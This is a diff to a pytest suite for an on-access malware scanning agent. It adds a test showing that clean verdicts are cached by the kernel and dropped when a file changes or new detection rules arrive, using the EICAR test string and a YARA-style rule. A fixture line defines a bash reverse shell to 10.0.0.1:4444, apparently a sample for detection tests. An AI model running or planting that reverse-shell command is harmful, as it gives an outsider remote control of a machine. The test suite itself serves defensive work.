@@ -13,7 +13,7 @@ import time
 
 import pytest
 
-from agentlib import DEFAULT_SRC, Agent, Keys, read_journal, wait_events
+from agentlib import DEFAULT_SRC, EICAR_RULE, Agent, Keys, crafted, read_journal, wait_events
 from conftest import EICAR
 
 REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
@@ -39,7 +39,7 @@ def box(ward, tmp_path):
         pass
 
     b = Box()
-    b.mnt, b.ward, b.tmp = str(mnt), ward, tmp_path
+    b.mnt, b.ward, b.tmp, b.rel = str(mnt), ward, tmp_path, rel
 
     def agent(extra=(), fault=False, env_vars=None, paths=None):
         d = tmp_path / ("agent%d" % len(agents))
@@ -244,3 +244,42 @@ def test_block_open_opt_in(box):
     assert open(os.path.join(other, "eicar.com"), "rb").read() == EICAR
     ev = wait_events(a, "file-open-denied")[0]
     assert ev["file"]["path"] == os.path.join(guarded, "eicar.com")
+
+
+def test_clean_verdict_kept_by_the_kernel_until_the_file_or_content_changes(box):
+    """A file found clean is not asked about again (an ignore mark): the
+    open costs no round trip to the agent.  Modifying the file, or new
+    content, makes the kernel ask again."""
+    guarded = os.path.join(box.mnt, "uploads")
+    os.makedirs(guarded)
+    a = box.agent(extra=["  block_open: [%s]" % guarded])
+    clean = os.path.join(guarded, "clean.txt")
+    later = os.path.join(guarded, "later.txt")
+    with open(clean, "wb") as f:
+        f.write(b"hello\n")
+    with open(later, "wb") as f:
+        f.write(b"nothing known yet: ward-later-marker\n")
+    for path in (clean, later):
+        open(path, "rb").read()
+    c0 = a.status()["sensors"]["onaccess"]["counters"]
+    assert c0["ignored"] >= 2, c0
+    for _ in range(20):
+        assert open(clean, "rb").read() == b"hello\n"
+    c1 = a.status()["sensors"]["onaccess"]["counters"]
+    assert c1["events"] == c0["events"], "the kernel still asked about a file found clean"
+    # Modified: the kernel drops the ignore mark, the next open is scanned.
+    with open(clean, "wb") as f:
+        f.write(EICAR)
+    with pytest.raises(PermissionError):
+        open(clean, "rb").read()
+    # New content that detects later.txt: its clean verdict is forgotten.
+    rule = EICAR_RULE + b'rule Later_Marker { strings: $m = "ward-later-marker" condition: $m }\n'
+    v2 = os.path.join(box.tmp, "v2.wbundle")
+    with open(v2, "wb") as f:
+        f.write(crafted(2, box.rel, str(box.tmp), rules=rule))
+    p = a.apply(v2)
+    assert p.returncode == 0, p.stdout + p.stderr
+    with pytest.raises(PermissionError):
+        open(later, "rb").read()
+    ev = [e for e in wait_events(a, "file-open-denied", 2) if e["file"]["path"] == later]
+    assert ev and ev[0]["rule"]["name"] == "Later_Marker"
